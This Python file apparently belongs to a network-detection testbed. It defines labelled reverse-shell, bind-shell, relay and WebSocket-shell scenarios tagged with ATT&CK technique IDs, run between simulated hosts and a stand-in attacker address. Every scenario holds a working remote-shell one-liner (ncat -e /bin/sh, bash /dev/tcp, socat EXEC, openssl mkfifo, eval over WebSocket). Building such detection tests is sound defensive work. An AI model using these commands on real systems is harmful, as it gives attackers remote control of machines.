"""Reverse and bind shells, plain and encrypted; the operator types on a terminal."""
from engine import addresses as at
from engine.declaration import malicious
from engine.hosts import TOOLS
from engine.network import Network
from engine.services import LOOK_AROUND, bad_certificate, shell_session

SHELL = {"seconds": 30}


@malicious("revshell-ncat-4444", "T1095 T1571 T1059.004", tools="ncat", talks=f"c1>{at.BAD}:4444/tcp", expects=["medium", "nonstandard_port T1571"], **SHELL)
def ncat_4444(net: Network) -> None:
    """reverse shell, plain TCP 4444"""
    shell_session(net, f"ncat -lnv {at.BAD} 4444", f"ncat {at.BAD} 4444 -e /bin/sh")


@malicious("revshell-socat-443", "T1095 T1571 T1059.004", tools="socat", talks=f"c1>{at.BAD}:443/tcp", expects=["medium T1571"], **SHELL)
def socat_443(net: Network) -> None:
    """socat reverse shell with a terminal on 443: no TLS"""
    shell_session(net, f"socat -d TCP-LISTEN:443,bind={at.BAD},reuseaddr STDIO", f"socat TCP:{at.BAD}:443 EXEC:'bash -i',pty,stderr,setsid,sigint,sane")


@malicious("revshell-bash-devtcp-8080", "T1095 T1059.004", tools="bash netcat-openbsd", talks=f"c1>{at.BAD}:8080/tcp", expects=["medium"], **SHELL)
def bash_8080(net: Network) -> None:
    """bash /dev/tcp reverse shell on 8080"""
    shell_session(net, f"nc -lnv -s {at.BAD} -p 8080", f"bash -c 'bash -i >& /dev/tcp/{at.BAD}/8080 0>&1'")


@malicious("revshell-ncat-ssl-443", "T1573.002 T1059.004", tools="ncat", talks=f"c1>{at.BAD}:443/tcp", expects=["T1573"], **SHELL)
def ncat_ssl_443(net: Network) -> None:
    """ncat --ssl reverse shell on 443 (ncat's throw-away certificate)"""
    shell_session(net, f"ncat --ssl -lnv {at.BAD} 443", f"ncat --ssl {at.BAD} 443 -e /bin/sh")


@malicious("revshell-openssl-8443", "T1573.002 T1059.004", tools="openssl", talks=f"c1>{at.BAD}:8443/tcp", expects=["T1573"], **SHELL)
def openssl_8443(net: Network) -> None:
    """openssl s_client reverse shell against a lazily made certificate"""
    lazy = net.material.self_signed("/C=US/ST=Some-State/O=Internet Widgits Pty Ltd")
    client = f"mkfifo /tmp/f; sh -i </tmp/f 2>&1 | openssl s_client -quiet -connect {at.BAD}:8443 >/tmp/f 2>/dev/null"
    shell_session(net, f"openssl s_server -quiet -cert {lazy.crt} -key {lazy.key} -accept {at.BAD}:8443", f"bash -c '{client}'")


@malicious("revshell-udp-53", "T1095 T1571", tools="socat", talks=f"c1>{at.BAD}:53/udp", expects=["medium T1571"], **SHELL)
def udp_53(net: Network) -> None:
    """UDP reverse shell on udp/53, which is not DNS"""
    shell_session(net, f"socat STDIO UDP-LISTEN:53,bind={at.BAD},reuseaddr", f"socat EXEC:'bash -i',pty,stderr,setsid,sane UDP:{at.BAD}:53")


@malicious("bindshell-31337", "T1095 T1571", tools="ncat", talks=f"{at.BAD}>c1:31337/tcp", expects=["T1571"], **SHELL)
def bind_31337(net: Network) -> None:
    """bind shell on the client; the operator outside connects in"""
    net.c1.start("ncat -lk 31337 -e /bin/sh", listens="31337/tcp")
    net.inet.type(f"ncat {at.C1} 31337", LOOK_AROUND, pause=2)


@malicious("internal-proxy-relay", "T1090.001 T1095", tools="socat ncat", talks=f"c2>c1:8081/tcp c1>{at.BAD}:443/tcp", hosts="c1 c2", expects=["T1090.001"], **SHELL)
def relay(net: Network) -> None:
    """c2 reaches its operator only through a socat relay on c1: one hop on the LAN, one outside"""
    net.c1.start(f"socat TCP-LISTEN:8081,fork,reuseaddr TCP:{at.BAD}:443", listens="8081/tcp")
    net.inet.type(f"ncat -lnv {at.BAD} 443", LOOK_AROUND, pause=2, background=True)
    net.sleep(1.5)
    net.c2.start(f"ncat {at.C1} 8081 -e /bin/sh")
    net.sleep(22)


@malicious("ws-shell", "T1071.001 T1059", tools="websocketd", talks=f"c1>{at.BAD}:80/tcp", seconds=60)
def ws_shell(net: Network) -> None:
    """shell commands over a WebSocket on 80, long-lived"""
    net.inet.start(f"websocketd --address={at.BAD} --port=80 bash -c 'while read -r l; do eval \"$l\" 2>&1; done'", listens="80/tcp")
    net.c1.run(f"python3 {TOOLS}/websocket_client.py ws://{at.BAD_NAME}/chat --ping 10 --pause 3 12 id hostname 'ls -la /usr/share | head -20' 'cat /etc/os-release' 'ls /etc | head -40'")


@malicious("wss-shell", "T1071.001 T1573.002", tools="websocketd", talks=f"c1>{at.BAD}:443/tcp", seconds=60, expects=["T1573"])
def wss_shell(net: Network) -> None:
    """the same in TLS on 443"""
    pair = bad_certificate(net)
    shell = "bash -c 'while read -r l; do eval \"$l\" 2>&1; done'"
    net.inet.start(f"websocketd --ssl --sslcert={pair.crt} --sslkey={pair.key} --address={at.BAD} --port=443 {shell}", listens="443/tcp")
    net.c1.run(f"python3 {TOOLS}/websocket_client.py wss://{at.BAD_NAME}/chat --ping 10 --pause 3 12 id hostname 'ls -la /usr/share | head -20' 'cat /etc/os-release' 'ls /etc | head -40'")
